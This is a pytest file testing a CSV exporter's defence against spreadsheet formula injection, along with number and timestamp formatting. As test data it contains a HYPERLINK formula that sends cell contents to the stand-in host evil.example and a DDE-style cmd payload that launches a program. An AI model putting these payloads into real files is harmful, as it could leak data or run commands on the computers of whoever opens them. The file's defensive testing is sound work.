"""The one CSV writer: every cell a spreadsheet would run as a formula comes out as text."""
import csv
import io
from decimal import Decimal

import pytest

from service import csv_export


def parse(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_text_cell_starting_a_formula_gets_a_leading_quote(start):
    payload = f'{start}HYPERLINK("http://evil.example/?"&A1,"点击")'
    assert csv_export.cell(payload) == "'" + payload
    rows = parse(csv_export.write(["name", "note"], [["王**", payload]]))
    assert rows == [["name", "note"], ["王**", "'" + payload]]


@pytest.mark.parametrize("text", ["少盐", "HYPERLINK(1)", " =1+1", "a=b", "13812345678", "12.50", ""])
def test_ordinary_text_is_left_alone(text):
    assert csv_export.cell(text) == text


@pytest.mark.parametrize("value, written", [
    (Decimal("-2.50"), "-2.50"), (-3, "-3"), (0, "0"), ("-2.50", "-2.50"), ("+3", "+3"), ("-0.5", "-0.5"),
    (None, ""),
])
def test_numbers_stay_numbers_even_when_negative(value, written):
    assert csv_export.cell(value) == written


@pytest.mark.parametrize("text", ["-2+3", "-1e5", "+86 138 1234 5678", "-cmd|' /C calc'!A0", "--1", "-"])
def test_a_sign_followed_by_anything_but_a_plain_number_is_neutralised(text):
    assert csv_export.cell(text) == "'" + text


def test_the_header_row_and_quoting_go_through_the_writer_too():
    rows = parse(csv_export.write(["=a", 'b"c'], [['x,"y"', "line\nbreak"]]))
    assert rows == [["'=a", 'b"c'], ['x,"y"', "line\nbreak"]]


def test_a_moment_is_written_in_shanghai_time():
    from datetime import datetime, timezone

    from service import csv_export

    assert csv_export.cell(datetime(2026, 12, 7, 15, 59, 59, tzinfo=timezone.utc)) == "2026-12-07T23:59:59+08:00"
    assert csv_export.cell(datetime(2026, 12, 7, 3, 0)) == "2026-12-07T11:00:00+08:00"  # naive: UTC, as SQLite gives
